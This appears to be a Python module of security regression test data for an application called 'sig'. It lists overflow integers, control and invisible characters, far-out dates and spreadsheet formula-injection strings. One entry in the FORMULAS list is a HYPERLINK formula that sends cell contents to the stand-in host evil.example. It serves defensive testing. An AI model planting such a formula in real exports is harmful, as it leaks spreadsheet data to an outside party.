"""The regression corpus of issue 7 as data: the inputs that once broke or attacked sig.

Each list is used by the tests beside it (tests/security/test_*.py) and by the per-area tests
that need them. The zip bomb is generated at test time (core.tests / tests.security.test_files),
never committed."""

from __future__ import annotations

import datetime

# --- integers beyond what the databases hold (point 6) --------------------------------------
INT64_MAX = 2**63 - 1
HUGE_INTEGERS = [2**63, 2**64, -(2**63) - 1, 10**30, 9223372036854775808]
HUGE_INTEGER_TEXTS = [str(n) for n in HUGE_INTEGERS] + ["9" * 40]
# In range for Python and JSON, but not for OFFSET on SQLite (OFFSET + LIMIT overflows).
HUGE_OFFSETS = [INT64_MAX, INT64_MAX - 1, 2**62]
# Not integers, though JSON parsers may hand them over as numbers.
NOT_INTEGERS = [91.0, 1.5, "91", "", True, None]
NOT_AMOUNTS = ["", " ", "abc", "1e400", "NaN", "Infinity", "1,5"]

# --- text that must never be stored (point 7) -------------------------------------------------
NUL = "\x00"
CONTROL_STRINGS = ["A\x00B", "\x00", "A\x07B", "A\x1bB", "A\x7fB", "A\x85B"]
LONE_SURROGATES = ["\ud9b2\udff7", "\udc00", "A\ud800"]
BIDI_CODES = ["\u202e100-P-SUC", "SEC\u202d-01", "SEC-\u2066X\u2069"]
ZERO_WIDTH_CODES = ["SEC\u200b-01", "\ufeffSEC-01", "SE\u200dC-01", "SEC\u2060-01"]
# The same code in another case (unique case-insensitively).
CASE_TWINS = [("SEC-01", "sec-01"), ("UT-CUS", "ut-cus")]
NOT_NFC = "Sedé".replace("é", "e\u0301")  # e + combining acute: stored as NFC "Sedé"

# --- formula prefixes and characters XLSX cannot hold (point 4) -------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]
UNHOLDABLE = ["Título\x00con NUL", "\x01\x02\x03", "A\x0bB\x0cC", "A\ufffeB\uffff"]

# --- dates far outside any plan (point 6) -----------------------------------------------------
FAR_DATES = [datetime.date(1, 1, 1), datetime.date(9999, 12, 31), datetime.date(1000, 6, 15)]
FAR_DATE_TEXTS = ["0001-01-01", "9999-12-31", "1000-06-15", "+10000-01-01"]
